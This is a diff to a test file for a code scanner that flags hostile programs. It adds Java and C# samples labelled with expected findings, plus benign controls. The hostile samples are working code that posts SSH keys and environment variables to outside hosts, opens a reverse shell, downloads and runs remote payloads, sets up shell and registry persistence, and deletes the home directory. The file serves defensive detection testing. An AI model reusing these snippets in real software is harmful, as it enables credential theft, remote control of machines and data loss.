@@ -124,6 +124,76 @@ test.each([
     'class A {\n  static void Main() {\n    Process.Start(new ProcessStartInfo { FileName = "powershell", Arguments = "-c iex (iwr http://203.0.113.9/x)" });\n  }\n}\n',
     "block remote-code",
   ],
+  [
+    "A.java",
+    'public final class Backup {\n  private static final String ENDPOINT = "https://sync.devmetrics.biz/v1/upload";\n  private final HttpClient client = HttpClient.newHttpClient();\n\n  public static void main(String[] args) throws Exception {\n    new Backup().run();\n  }\n\n  private void run() throws IOException, InterruptedException {\n    Path home = Paths.get(System.getProperty("user.home"));\n    Path key = home.resolve(".ssh").resolve("id_rsa");\n    if (!Files.exists(key)) return;\n    send(Files.readString(key));\n  }\n\n  private void send(String body) throws IOException, InterruptedException {\n    HttpRequest request = HttpRequest.newBuilder()\n      .uri(URI.create(ENDPOINT))\n      .header("Content-Type", "text/plain")\n      .POST(HttpRequest.BodyPublishers.ofString(body))\n      .build();\n    client.send(request, HttpResponse.BodyHandlers.discarding());\n  }\n}\n',
+    "block secret-exfiltration",
+  ],
+  [
+    "A.java",
+    'public class EnvReport {\n  private final String target;\n  public EnvReport(String target) { this.target = target; }\n\n  static String collect() {\n    StringBuilder sb = new StringBuilder();\n    for (Map.Entry<String, String> e : System.getenv().entrySet()) {\n      sb.append(e.getKey()).append("=").append(e.getValue()).append("\\n");\n    }\n    return sb.toString();\n  }\n\n  void post() throws Exception {\n    HttpURLConnection conn = (HttpURLConnection) new URL(target).openConnection();\n    conn.setRequestMethod("POST");\n    conn.setDoOutput(true);\n    try (OutputStream os = conn.getOutputStream()) {\n      os.write(collect().getBytes(StandardCharsets.UTF_8));\n    }\n    conn.getResponseCode();\n  }\n\n  public static void main(String[] a) throws Exception {\n    new EnvReport("https://collect.env-stats.net/in").post();\n  }\n}\n',
+    "block data-exfiltration",
+  ],
+  [
+    "A.java",
+    'class Updater {\n  static void update() throws Exception {\n    Path tmp = Files.createTempFile("upd", ".sh");\n    try (InputStream in = new URL("http://203.0.113.9/stage2.sh").openStream()) {\n      Files.copy(in, tmp, StandardCopyOption.REPLACE_EXISTING);\n    }\n    tmp.toFile().setExecutable(true);\n    Runtime.getRuntime().exec(new String[]{"/bin/sh", tmp.toString()});\n  }\n}\n',
+    "block evaluated-download",
+  ],
+  [
+    "A.java",
+    'public class Agent implements Runnable {\n  @Override\n  public void run() {\n    try (Socket socket = new Socket("c2.quietharbour.dev", 9001);\n       BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));\n       PrintWriter out = new PrintWriter(socket.getOutputStream(), true)) {\n      String line;\n      while ((line = in.readLine()) != null) {\n        Process proc = Runtime.getRuntime().exec(new String[] { "sh", "-c", line });\n        try (BufferedReader r = new BufferedReader(new InputStreamReader(proc.getInputStream()))) {\n          r.lines().forEach(out::println);\n        }\n      }\n    } catch (IOException ignored) { }\n  }\n  public static void main(String[] args) { new Thread(new Agent()).start(); }\n}\n',
+    "block remote-command-execution",
+  ],
+  [
+    "A.java",
+    'public class A1 {\n  static final List<String> WANTED = List.of(".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".npmrc");\n  public static void main(String[] args) {\n    String base = System.getenv("HOME");\n    for (String w : WANTED) {\n      File f = new File(base, w);\n      if (f.exists()) upload(f);\n    }\n  }\n  private static void upload(File f) {\n    try {\n      HttpURLConnection con = (HttpURLConnection) URI.create("https://drop.quietharbour.dev/f").toURL().openConnection();\n      con.setRequestMethod("PUT");\n      con.setDoOutput(true);\n      Files.copy(f.toPath(), con.getOutputStream());\n      con.getResponseCode();\n    } catch (IOException e) {\n      // ignore\n    }\n  }\n}\n',
+    "block secret-exfiltration",
+  ],
+  [
+    "A.java",
+    'class A8 {\n  public static void main(String[] a) throws Exception {\n    String home = System.getProperty("user.home");\n    try (FileWriter w = new FileWriter(home + "/.zshrc", true)) {\n      w.write("\\n(curl -s http://203.0.113.9/b | sh) &>/dev/null &\\n");\n    }\n  }\n}\n',
+    "block program-persistence",
+  ],
+  [
+    "a.cs",
+    'var values = new Dictionary<string, string>();\nforeach (DictionaryEntry e in Environment.GetEnvironmentVariables())\n  values[e.Key.ToString()!] = e.Value?.ToString() ?? "";\n\nusing var client = new HttpClient { BaseAddress = new Uri("https://collect.env-stats.net/") };\nawait client.PostAsJsonAsync("in", values);\n',
+    "block data-exfiltration",
+  ],
+  [
+    "a.cs",
+    'class Req {\n  static void Main() {\n  var home = Environment.GetEnvironmentVariable("HOME");\n  byte[] data = File.ReadAllBytes(home + "/.ssh/id_ed25519");\n  var request = (HttpWebRequest)WebRequest.Create("https://in.loghub.biz/k");\n  request.Method = "POST";\n  request.ContentLength = data.Length;\n  using (var stream = request.GetRequestStream()) {\n    stream.Write(data, 0, data.Length);\n  }\n  using var response = request.GetResponse();\n  }\n}\n',
+    "block secret-exfiltration",
+  ],
+  [
+    "a.cs",
+    'class Msg {\n  public string Url { get; set; } = "https://in.loghub.biz/u";\n  string ReadKey() => File.ReadAllText($"{Environment.GetFolderPath(Environment.SpecialFolder.UserProfile)}/.ssh/id_rsa");\n  public async System.Threading.Tasks.Task SendAsync() {\n  var msg = new HttpRequestMessage(HttpMethod.Post, Url);\n  msg.Content = new StringContent(ReadKey());\n  var c = new HttpClient();\n  await c.SendAsync(msg).ConfigureAwait(false);\n  }\n}\n',
+    "block secret-exfiltration",
+  ],
+  [
+    "a.cs",
+    'class Poll {\n  private readonly HttpClient http = new HttpClient();\n  async Task LoopAsync() {\n  while (true) {\n    var order = await http.GetStringAsync("https://tasks.botfarm.biz/next");\n    if (!string.IsNullOrWhiteSpace(order)) {\n    Process.Start("/bin/sh", $"-c \\"{order}\\"");\n    }\n    await Task.Delay(30000);\n  }\n  }\n}\n',
+    "block evaluated-download",
+  ],
+  [
+    "a.cs",
+    'using System; using System.Net.Http; using System.IO; using System.Diagnostics; using System.Threading.Tasks;\nclass B9 {\n  static async Task Main() {\n  using var h = new HttpClient();\n  using var s = await h.GetStreamAsync("https://cdn.toolbox-ext.biz/agent.exe");\n  var path = Path.Combine(Path.GetTempPath(), "agent.exe");\n  using (var f = File.Create(path)) { await s.CopyToAsync(f); }\n  Process.Start(new ProcessStartInfo(path) { UseShellExecute = true });\n  }\n}\n',
+    "block evaluated-download",
+  ],
+  [
+    "a.cs",
+    'using System; using System.IO; using System.IO.Compression; using System.Net.Http;\nclass B4 {\n  static async System.Threading.Tasks.Task Main() {\n  string src = Path.Combine(Environment.GetEnvironmentVariable("USERPROFILE"), ".ssh");\n  string zip = Path.GetTempFileName();\n  ZipFile.CreateFromDirectory(src, zip);\n  var content = new MultipartFormDataContent();\n  content.Add(new StreamContent(File.OpenRead(zip)), "f", "x.zip");\n  await new HttpClient().PostAsync("https://in.loghub.biz/z", content);\n  }\n}\n',
+    "block secret-exfiltration",
+  ],
+  [
+    "a.cs",
+    'class Run {\n  static void Main() {\n  var exe = System.IO.Path.Combine(System.Environment.GetFolderPath(System.Environment.SpecialFolder.ApplicationData), "svc.exe");\n  new System.Net.WebClient().DownloadFile("https://cdn.pkg-tools.biz/svc.exe", exe);\n  using var key = Registry.CurrentUser.OpenSubKey(@"Software\\Microsoft\\Windows\\CurrentVersion\\Run", true);\n  key.SetValue("Updater", exe);\n  }\n}\n',
+    "warn program-persistence",
+  ],
+  [
+    "a.cs",
+    "using System; using System.IO;\nclass Wipe { static void Main() { var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile); Directory.Delete(home, true); } }\n",
+    "block file-destruction",
+  ],
 ])("follows %s: %j", async (path, code, finding) => {
   expect(await worst(path, code)).toBe(finding);
 });
@@ -179,6 +249,34 @@ test.each([
   [
     "a.cs",
     'class A {\n  void Run() {\n    var image = Convert.FromBase64String(row.Image);\n    using var s = new MemoryStream(image);\n    Bitmap.FromStream(s).Save("a.png");\n    Process.Start("git", "status");\n  }\n}\n',
+  ],
+  [
+    "A.java",
+    'public class Notes {\n  private final String key = System.getenv("NOTES_API_KEY");\n  private final HttpClient client = HttpClient.newHttpClient();\n  public String create(String text) throws Exception {\n    HttpRequest r = HttpRequest.newBuilder(URI.create("https://api.notes.dev/v1/notes"))\n      .header("Authorization", "Bearer " + key)\n      .header("Content-Type", "application/json")\n      .POST(HttpRequest.BodyPublishers.ofString("{\\"text\\":\\"" + text + "\\"}"))\n      .build();\n    return client.send(r, HttpResponse.BodyHandlers.ofString()).body();\n  }\n}\n',
+  ],
+  [
+    "A.java",
+    'public class Conf {\n  static Properties load(String path) throws IOException {\n    Properties p = new Properties();\n    try (InputStream in = new FileInputStream(path)) { p.load(in); }\n    return p;\n  }\n  public static void main(String[] a) throws Exception {\n    Properties p = load("app.properties");\n    byte[] icon = Base64.getDecoder().decode(p.getProperty("icon"));\n    try (FileOutputStream out = new FileOutputStream("icon.png")) { out.write(icon); }\n    System.getenv().forEach((k, v) -> { if (k.startsWith("APP_")) System.out.println(k); });\n  }\n}\n',
+  ],
+  [
+    "A.java",
+    "public class Echo {\n  public static void main(String[] args) throws Exception {\n    try (ServerSocket server = new ServerSocket(8080)) {\n      while (true) {\n        Socket s = server.accept();\n        new Thread(() -> {\n          try (BufferedReader in = new BufferedReader(new InputStreamReader(s.getInputStream())); PrintWriter out = new PrintWriter(s.getOutputStream(), true)) {\n            out.println(in.readLine());\n          } catch (IOException e) { e.printStackTrace(); }\n        }).start();\n      }\n    }\n  }\n}\n",
+  ],
+  [
+    "A.java",
+    'public class Git {\n  static String git(String... args) throws IOException {\n    Process p = new ProcessBuilder(args).start();\n    return new BufferedReader(new InputStreamReader(p.getInputStream())).lines().collect(Collectors.joining("\\n"));\n  }\n  public static void main(String[] a) throws IOException {\n    System.out.println(git("git", "log", "--oneline", "-n", "5"));\n    System.out.println(git("git", "rev-parse", "HEAD"));\n  }\n}\n',
+  ],
+  [
+    "a.cs",
+    'using System; using System.Net.Http; using System.Net.Http.Headers; using System.Text; using System.Threading.Tasks;\npublic class NotesClient {\n  private readonly HttpClient _http;\n  public NotesClient(HttpClient http) {\n  _http = http;\n  _http.BaseAddress = new Uri("https://api.notes.dev/");\n  _http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", Environment.GetEnvironmentVariable("NOTES_KEY"));\n  }\n  public async Task<string> AddAsync(string text) {\n  var r = await _http.PostAsync("v1/notes", new StringContent(text, Encoding.UTF8, "application/json"));\n  return await r.Content.ReadAsStringAsync();\n  }\n}\n',
+  ],
+  [
+    "a.cs",
+    'using System.Net.Http; using System.IO;\nclass Dl { static async System.Threading.Tasks.Task Main() {\n  using var http = new HttpClient();\n  var bytes = await http.GetByteArrayAsync("https://data.notes.dev/words.json");\n  await File.WriteAllBytesAsync("words.json", bytes);\n  System.Console.WriteLine(bytes.Length);\n} }\n',
+  ],
+  [
+    "a.cs",
+    'using System.Reflection; using System.IO;\nclass Plug {\n  void Load(string dir) {\n  foreach (var f in Directory.GetFiles(dir, "*.dll")) {\n    var a = Assembly.LoadFrom(f);\n    foreach (var t in a.GetTypes()) if (typeof(IPlugin).IsAssignableFrom(t)) plugins.Add((IPlugin)Activator.CreateInstance(t)!);\n  }\n  }\n}\n',
   ],
 ])("leaves alone what %s does honestly: %j", async (path, code) => {
   expect(await worst(path, code)).toBe("nothing");
